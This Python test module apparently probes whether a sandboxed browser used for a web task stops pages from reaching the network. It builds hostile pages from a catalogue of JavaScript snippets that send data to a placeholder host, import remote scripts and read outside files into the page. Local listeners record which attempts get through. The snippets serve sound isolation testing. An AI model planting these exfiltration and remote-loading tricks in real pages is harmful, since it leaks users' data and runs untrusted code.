"""Pages that try to reach out: what each tries, and listeners that would hear of it."""

from __future__ import annotations

import json
import selectors
import socket
import threading
from pathlib import Path
from types import TracebackType

OUTSIDE = "the words of a file outside"
_STUN = '[{urls: ["stun:HOST", "turn:HOST?transport=tcp"], username: "a", credential: "b"}]'

SENDING = {
    "fetch": "fetch('http://HOST/', {mode: 'no-cors'});",
    "fetch_post": "fetch('http://HOST/', {method: 'POST', mode: 'no-cors', body: 'x', keepalive: true});",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send();",
    "image": "new Image().src = 'http://HOST/a.png';",
    "beacon": "navigator.sendBeacon('http://HOST/', 'x');",
    "beacon_of_the_prototype": "Navigator.prototype.sendBeacon.call(navigator, 'http://HOST/', 'x');",
    "websocket": "new WebSocket('ws://HOST/');",
    "event_source": "new EventSource('http://HOST/');",
    "web_transport": "new WebTransport('https://HOST/');",
    "webrtc": f"const p = new RTCPeerConnection({{iceServers: {_STUN}}}); p.createDataChannel('a');"
    "p.createOffer().then((offer) => p.setLocalDescription(offer));",
    "webrtc_of_a_frame": "const f = document.createElement('iframe'); document.body.append(f);"
    f"const p = new f.contentWindow.RTCPeerConnection({{iceServers: {_STUN}}}); p.createDataChannel('a');"
    "p.createOffer().then((offer) => p.setLocalDescription(offer));",
    "script": "add('script', {src: 'http://HOST/a.js'});",
    "module": "import('http://HOST/a.js').catch(() => null);",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/', {mode: 'no-cors'})`])));",
    "module_worker": "new Worker(URL.createObjectURL(new Blob([`import 'http://HOST/a.js'`],"
    "{type: 'text/javascript'})), {type: 'module'});",
    "worker_of_a_frame": "const f = document.createElement('iframe'); document.body.append(f);"
    "new f.contentWindow.Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/')`])));",
    "shared_worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://HOST/')`])));",
    "worklet": "CSS.paintWorklet.addModule('http://HOST/a.js');",
    "service_worker": "navigator.serviceWorker.register('worker.js').then(() => fetch('http://HOST/'));",
    "style": "add('link', {rel: 'stylesheet', href: 'http://HOST/a.css'});",
    "style_url": "document.body.style.backgroundImage = 'url(http://HOST/a.png)';",
    "font": "new FontFace('far', 'url(http://HOST/a.woff)').load().catch(() => null);",
    "frame": "add('iframe', {src: 'http://HOST/'});",
    "frame_of_its_own_text": "add('iframe', {srcdoc: `<img src='http://HOST/a.png'>`});",
    "frame_of_data": "add('iframe', {src: `data:text/html,<img src='http://HOST/a.png'>`});",
    "plugin": "add('object', {data: 'http://HOST/a.pdf'}); add('embed', {src: 'http://HOST/a'});",
    "video": "add('video', {src: 'http://HOST/a.webm', autoplay: true});",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://HOST/'});",
    "prefetch": "add('link', {rel: 'prefetch', href: 'http://HOST/a'});",
    "preload": "add('link', {rel: 'preload', as: 'image', href: 'http://HOST/a.png'});",
    "prerender": "add('link', {rel: 'prerender', href: 'http://HOST/a'});",
    "speculation": "add('script', {type: 'speculationrules', textContent:"
    """JSON.stringify({prerender: [{urls: ['http://HOST/a'], eagerness: 'immediate'}],"""
    """prefetch: [{urls: ['http://HOST/b'], eagerness: 'immediate'}]})});""",
    "icon": "add('link', {rel: 'icon', href: 'http://HOST/a.ico'});",
    "manifest": "add('link', {rel: 'manifest', href: 'http://HOST/a.json'});",
    "ping": "const a = add('a', {href: '#x', ping: 'http://HOST/'}); a.click();",
    "window": "window.open('http://HOST/');",
    "window_by_link": "add('a', {href: 'http://HOST/', target: '_blank'}).click();",
    "form": "const f = add('form', {action: 'http://HOST/', method: 'post'}); f.submit();",
    "form_in_a_window": "add('form', {action: 'http://HOST/', target: '_blank'}).submit();",
    "download": "add('a', {href: 'http://HOST/a.zip', download: 'a.zip'}).click();",
    "location": "location = 'http://HOST/';",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0;url=http://HOST/'});",
    "navigation": "self.navigation.navigate('http://HOST/').finished.catch(() => null);",
    "reports": "add('meta', {httpEquiv: 'Content-Security-Policy', content:"
    "`img-src 'none'; report-uri http://HOST/`}); new Image().src = 'a.png';",
    "loopback_by_name": "fetch('http://localhost:PORT/', {mode: 'no-cors'});",
}
"""What a page does to send something out to HOST or PORT, by a word for it."""

ASKING = {
    "alert": "alert('x'); confirm('x'); prompt('x');",
    "print": "window.print();",
    "leaving": "window.onbeforeunload = (event) => { event.preventDefault(); return 'x'; };",
    "cookie": "document.cookie = 'a=b; max-age=9999'; tell(document.cookie);",
    "frame_in_frame": "add('iframe', {srcdoc: `<iframe src='data:text/html,x'></iframe>`});",
}
"""What a page does that could hold it up, or outlive it."""

READING = {
    "fetch": "fetch('TARGET').then((got) => got.text()).then(tell);",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'TARGET');"
    "x.onload = () => tell(x.responseText); x.send();",
    "frame": "const f = add('iframe', {src: 'TARGET'});"
    "f.onload = () => tell(f.contentDocument && f.contentDocument.body.textContent);",
    "style": "const s = add('link', {rel: 'stylesheet', href: 'TARGET'});"
    "s.onload = () => tell('WORDS'.slice(0, s.sheet ? 99 : 0));",
    "script": "const s = add('script', {src: 'TARGET'}); s.onload = () => tell('WORDS');",
    "image": "const i = new Image(); i.onload = () => tell('WORDS'); i.src = 'TARGET.png';",
    "module": "import('TARGET').then(() => tell('WORDS')).catch(() => null);",
    "worker": "const w = new Worker(URL.createObjectURL(new Blob(["
    "`fetch('TARGET').then((got) => got.text()).then((text) => postMessage(text))`])));"
    "w.onmessage = (event) => tell(event.data);",
    "location": "location = 'TARGET';",
    "window": "const w = window.open('TARGET'); w.onload = () => tell(w.document.body.textContent);",
}
"""What a page does to read TARGET and tell its words."""

_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>hostile</title></head>
<body style="margin: 0"><button id="go">Go</button><img id="mine" src="mine.png">
<script>
let outcome, told = [], isSettled = false;
const tell = (text) => told.push(text);
const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
// what is asked for later is answered later: when this has come, the answers to all that was tried have, too
const settle = async () => {
  for (let times = 0; times < 3; times += 1) await new Promise((done) => {
    const picture = new Image();
    picture.onload = done;
    picture.src = `mine.png?${times}`;
  });
  isSettled = true;
};
window.task = {
  begin() { outcome = { done: false, reward: 0 }; },
  instruction() {
    const words = [document.getElementById("mine").naturalWidth, told.join(" ")].join(" ");
    return `press go ${words}${isSettled ? "." : ""}`;
  },
  outcome: () => outcome,
};
document.getElementById("go").addEventListener("click", () => (outcome = { done: true, reward: 1 }));
const act = () => {
  try { new Function("add", "tell", CODE)(add, tell); } catch { /* it was taken away */ }
  settle();
};
if (EARLY) act();
else window.addEventListener("load", () => {
  document.getElementById("go").addEventListener("mouseover", act, { once: true });
});
</script></body></html>
"""


def aimed(code: str, port: int) -> str:
    """Aim what a page does at a port of this machine."""
    return code.replace("HOST", f"127.0.0.1:{port}").replace("PORT", str(port))


def write_page(folder: Path, name: str, code: str, is_early: bool = False) -> Path:
    """Write a page that is honest, and does `code` when the pointer comes to its button.

    Or early: while it is loaded, before anything of ours that waits for its end.
    """
    folder.mkdir(exist_ok=True)
    page = folder / f"{name}.html"
    text = _PAGE.replace("CODE", json.dumps(code)).replace("EARLY", json.dumps(is_early))
    page.write_text(text, encoding="utf-8")
    return page


class Listeners:
    """A TCP and a UDP port of 127.0.0.1 for each name; `heard` are the names where something arrived."""

    def __init__(self, names: list[str]) -> None:
        self.heard: set[str] = set()
        self.ports: dict[str, int] = {}
        self._selector = selectors.DefaultSelector()
        for name in names:
            self._listen(name)
        self._ours, self._theirs = socket.socketpair()
        self._selector.register(self._theirs, selectors.EVENT_READ, "")
        self._thread = threading.Thread(target=self._serve)

    def __enter__(self) -> Listeners:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._ours.close()
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()

    def _listen(self, name: str) -> None:
        while name not in self.ports:
            stream, packets = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
            stream.bind(("127.0.0.1", 0))
            try:
                packets.bind(stream.getsockname())
            except OSError:  # another program has the other port of that number
                stream.close()
                packets.close()
                continue
            stream.listen()
            self.ports[name] = stream.getsockname()[1]
            self._selector.register(stream, selectors.EVENT_READ, name)
            self._selector.register(packets, selectors.EVENT_READ, name)

    def _serve(self) -> None:
        while True:
            for key, _ in self._selector.select():
                if not key.data:
                    return
                self.heard.add(key.data)
                if key.fileobj.type == socket.SOCK_STREAM:  # type: ignore[union-attr]
                    key.fileobj.accept()[0].close()  # type: ignore[union-attr]
                else:
                    key.fileobj.recv(4096)  # type: ignore[union-attr]
